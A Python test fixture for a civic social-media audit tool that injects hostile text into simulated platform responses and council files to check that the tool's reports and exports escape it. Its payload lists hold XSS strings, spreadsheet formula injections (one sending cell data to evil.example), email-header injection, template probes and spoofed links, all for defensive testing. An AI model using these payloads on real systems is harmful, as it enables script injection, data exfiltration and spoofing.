"""The demo town as vandals would have it: every text and link that a platform tells is hostile.

Texts are changed on the wire, in the platforms' own answers, so no field of any is forgotten
because the demo has no word for it. What the clerk and the operator write is hostile too, as far as
their files and commands take it.
"""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import dataclass, replace
from datetime import date
from itertools import count
from typing import TYPE_CHECKING, Any
from xml.sax.saxutils import escape

from demo import manifest
from demo.town import number
from demo.world import POLICY, World
from demo.youtube_resources import channel_id
from flows import archiving, packing, recording, stages, summarising
from flows import plan as plans
from socialaudit.settings import packaged
from tests.flows.councils import council_with

if TYPE_CHECKING:
    from pathlib import Path

    from demo.server import Answer, Request, Site

KNOWN = manifest.load()
PUBLIC = "zqpublicwords"
"""Stands in every text that is not by the council."""
TEXTS = (
    "<script>alert('zq')</script>",
    "\"'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)><iframe src='https://evil.example/zq'></iframe>",
    "</title></style></script></textarea>--><script>alert(2)</script><!--",
    '<a href="javascript:alert(1)">zq</a> javascript:alert(1)',
    '=HYPERLINK("https://evil.example/?"&A1,"zq")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1\uff0b1",
    "zq\r\nBcc: victim@example.org\r\nSubject: zq\r\n\r\n<script>alert(3)</script>",
    "\u202egnp.zq\u2066\u200f\u2069",
    "{{ 7*7 }}{% for zq in zq %}{{ zq }}{% endfor %}${7*7}#{7*7}",
    "zq" * 2000,
    "zq \ud83d half \udc00",
    "zq\x00\x1b[31m\x07\x85\u2028\u2029",
    "&lt;script&gt;alert(4)&lt;/script&gt;&#60;b&#62;",
    "z\u0300\u0301\u0302\u0303" * 300,
)
LINKS = (
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "https://evil.example/?zq",
    "//evil.example/zq",
    'https://www.facebook.com/zq" onclick="alert(1)',
    "https://www.facebook.com.evil.example/zq",
    "https://www.facebook.com@evil.example/zq",
    "",
)
WRITTEN = tuple(t for t in TEXTS if t.isprintable() and len(t) < 200 and "https:" not in t)
"""What a file or a command of ours takes, but for addresses: there they are the council's."""
_TEXT = frozenset(
    [
        "about",
        "alt_text",
        "alt_text_custom",
        "authorDisplayName",
        "caption",
        "category",
        "channelTitle",
        "country",
        "customUrl",
        "description",
        "display_url",
        "label",
        "language",
        "locale_name",
        "location",
        "message",
        "name",
        "order",
        "signature",
        "status_type",
        "story",
        "text",
        "textDisplay",
        "textOriginal",
        "title",
        "trackKind",
        "username",
        "value",
        "verification_status",
        "videoOwnerChannelTitle",
    ]
)
_LINK = frozenset(
    [
        "authorChannelUrl",
        "authorProfileImageUrl",
        "expanded_url",
        "link",
        "permalink_url",
        "picture",
        "preview_image_url",
        "source",
        "unshimmed_url",
        "unwound_url",
        "url",
        "website",
    ]
)
_KEPT = ("privacy", "authorChannelId", "verified_type")
"""What names a person or an audience by a fixed word or an id."""
_ELEMENT = re.compile(r"<(title|description|content:encoded|dc:creator|link|category)>(.*?)</\1>", re.DOTALL)  # fmt: skip


@dataclass
class Vandalised:
    """A site whose every text has something hostile before or behind it."""

    site: Site
    own: frozenset[str]

    def __post_init__(self) -> None:
        self.turn = count()

    def answer(self, request: Request) -> Answer:
        """The site's answer with its texts and links changed."""
        answer = self.site.answer(request)
        if isinstance(answer.body, str):
            return replace(answer, body=_ELEMENT.sub(self._element, answer.body))
        # ASCII, so that half a surrogate pair can be sent at all.
        return replace(answer, body=json.dumps(self._changed(answer.body, public=False)))

    def fault(self, name: str, request: Request) -> Answer:
        """A fault of the site, as it is."""
        return self.site.fault(name, request)

    def text(self, said: str, *, public: bool = False) -> str:
        """A text with the next hostile one before or behind it."""
        n = next(self.turn)
        planted = TEXTS[n // 2 % len(TEXTS)]
        mark = f" {PUBLIC}" if public else ""
        return f"{planted} {said}{mark}" if n % 2 else f"{said} {planted}{mark}"

    def link(self, said: str) -> str:
        """The next hostile link, or this one."""
        return LINKS[next(self.turn) % len(LINKS)] or said

    def _changed(self, node: Any, *, public: bool) -> Any:
        if isinstance(node, list):
            return [self._changed(one, public=public) for one in node]
        if not isinstance(node, dict):
            return node
        public = self._public(node, inherited=public)
        kept = {"username"} if node.get("id") in self.own else set()
        return {
            name: value if name in kept else self._field(name, value, public=public)
            for name, value in node.items()
        }

    def _field(self, name: str, value: Any, *, public: bool) -> Any:
        if name in _KEPT:
            return value
        if isinstance(value, str) and name in _TEXT:
            return self.text(value, public=public)
        if isinstance(value, str) and name in _LINK:
            return self.link(value)
        return self._changed(value, public=public)

    def _public(self, node: dict[str, Any], *, inherited: bool) -> bool:
        """Whether somebody else wrote it."""
        for name in ("from", "author_id", "authorChannelId"):
            if name in node:
                by = node[name]
                return str(by.get("id", by.get("value")) if isinstance(by, dict) else by) not in self.own  # fmt: skip
        return inherited

    def _element(self, found: re.Match[str]) -> str:
        name, said = found.groups()
        if name == "link":
            return f"<link>{escape(self.link(said))}</link>"
        planted = re.sub("[\x00-\x08\x0b-\x1f\ud800-\udfff]", "", self.text(""))
        return f"<{name}>{said}{escape(planted)}</{name}>"


def own_ids(world: World) -> frozenset[str]:
    """The council's own ids on the platforms."""
    towns = world.accounts
    return frozenset(
        {
            number("facebook", towns["facebook"].handle),
            number("x", towns["x"].handle.lower(), digits=10),
            channel_id(towns["youtube"]),
        }
    )


def council_file(world: World) -> Path:
    """The council's file, policy and spreadsheets with hostile names, titles and lines."""
    turn = count()

    def line(found: re.Match[str]) -> str:
        said = json.loads(found[2]) + " " + WRITTEN[next(turn) % len(WRITTEN)]
        return f"{found[1]} = {json.dumps(said, ensure_ascii=False)}"

    policy = (packaged("policies") / POLICY).read_text("utf-8")
    changed = re.sub(r'(?m)^(title|council|cite|source|text) = ("(?!"").*")$', line, policy)
    (world.out / POLICY).write_text(changed, "utf-8")
    council = council_with(
        world,
        ("(?m)^policy = .*", f'policy = "{POLICY}"'),
        ("(?m)^name = .*", "name = " + json.dumps(f"Marchwardine {WRITTEN[0]} {WRITTEN[1]}").replace("\\", "\\\\")),
        (r"\[report\]", '[report]\nweb_url = "https://reports.example.org/town/"'),
    )  # fmt: skip
    for name in ("statements", "register"):
        path = world.out / f"{name}.csv"
        rows = list(csv.DictReader(io.StringIO(path.read_text("utf-8"))))
        for n, row in enumerate(rows):
            for column in {"by", "evidence", "rule"} & row.keys():
                row[column] += f" {WRITTEN[n % len(WRITTEN)]}"
        out = io.StringIO()
        writer = csv.DictWriter(out, rows[0].keys())
        writer.writeheader()
        writer.writerows(rows)
        path.write_text(out.getvalue(), "utf-8")
    return council


def audited(world: World) -> Path:
    """Everything that we write for people about the vandalised town, in one folder."""
    own = own_ids(world)
    for server in world.servers.values():
        server.site = Vandalised(server.site, own)
    council = council_file(world)
    out = world.out / "all"
    stages.run(plans.weekly(council, KNOWN.weekly, fixed=True), stages.Plain(), str(out / "weekly"))
    _decide(council, out)
    incident = plans.incident(council, KNOWN.weekly, reason=WRITTEN[0], by=WRITTEN[1], fixed=True)
    stages.run(incident, stages.Plain(), str(out / "incident"))
    today = KNOWN.weekly.date()
    archiving.write_to(out / "archive", str(council), today)
    summarising.write(str(council), "2026-Q4", out / "summary.html", out / "plan.csv", today)
    for whole in (False, True):
        wanted = packing.Wanted(
            council=str(council), run=incident.run.id, whole=whole, reason=WRITTEN[2], by=WRITTEN[3]
        )
        packing.export_to(out / f"evidence-{whole}.zip", wanted, KNOWN.weekly)
    return out


def _decide(council: Path, out: Path) -> None:
    """Somebody answers a few things with hostile words."""
    found = json.loads((out / "weekly" / "results.json").read_text("utf-8"))["findings"]
    until = date(KNOWN.weekly.year + 1, 1, 1)
    for n, finding in enumerate(found[:: max(1, len(found) // 4)]):
        words = WRITTEN[n % len(WRITTEN)]
        verdict = ("leave", "mistake")[n % 2]
        given = recording.Decided(str(council), finding["ref"], verdict, words, words, until)
        recording.decide(given, KNOWN.weekly)
